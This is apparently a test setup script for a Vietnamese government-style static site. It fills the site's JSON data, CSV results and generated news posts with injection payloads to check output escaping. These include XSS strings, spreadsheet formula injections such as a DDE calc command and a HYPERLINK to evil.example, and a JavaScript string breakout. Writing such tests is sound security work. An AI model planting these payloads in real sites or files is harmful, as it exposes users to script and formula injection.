site="$1"; src="$3"
cp -r "$src/tests/data/valid" "$site/data"
mkdir -p "$site/content/tin-tuc"
python3 - "$site" <<'PY'
import csv, glob, io, json, os, sys
site = sys.argv[1]
P = ['<script>alert("MBX-%s")</script>', '"><img src=x onerror=alert(%s)>', "</script><script>alert(%s)</script>",
     '=HYPERLINK("http://evil.example/?%s","bấm")', "+cmd|' /C calc'!A0 %s", "-2+3 %s", "@SUM(1+1) %s",
     "\t=1+%s", "[x](javascript:alert(%s)) <!-- %s", "'; alert(%s); //"]
FREE = {"name", "short_name", "title", "summary", "note", "notes", "text", "description", "unit", "number"}
n = [0]
def payload():
    n[0] += 1
    p = P[n[0] % len(P)]
    return p.replace("%s", str(n[0]))
def walk(v, key=None, parent=None):
    if isinstance(v, dict):
        return {k: (dict(x, name=payload()) if k == "source" and isinstance(x, dict) else walk(x, k, v)) for k, x in v.items()}
    if isinstance(v, list):
        return [walk(x, key, parent) for x in v]
    if isinstance(v, str) and key in FREE:
        return payload()
    return v
for f in glob.glob(os.path.join(site, "data", "**", "*.json"), recursive=True):
    with open(f, encoding="utf-8") as fh:
        d = json.load(fh)
    with open(f, "w", encoding="utf-8") as fh:
        json.dump(walk(d), fh, ensure_ascii=False, indent=1)
for f in glob.glob(os.path.join(site, "data", "results", "*.csv")):
    rows = list(csv.reader(open(f, encoding="utf-8-sig", newline="")))
    for r in rows[1:]:
        r[5] = payload(); r[6] = payload()
    out = io.StringIO(); csv.writer(out, lineterminator="\n").writerows(rows)
    open(f, "w", encoding="utf-8").write(out.getvalue())
for i, ag in enumerate(["so-noi-vu", "so-tai-chinh"]):
    with open(os.path.join(site, "content", "tin-tuc", "tin-%d.md" % i), "w", encoding="utf-8") as fh:
        fh.write("---\ntitle: '%s'\ndate: 2026-01-0%d\nagencies: [%s]\nsummary: '%s'\ntags: ['%s']\n---\n%s\n"
                 % (payload().replace("'", "''"), i + 1, ag, payload().replace("'", "''"), payload().replace("'", "''"),
                    payload()))
PY
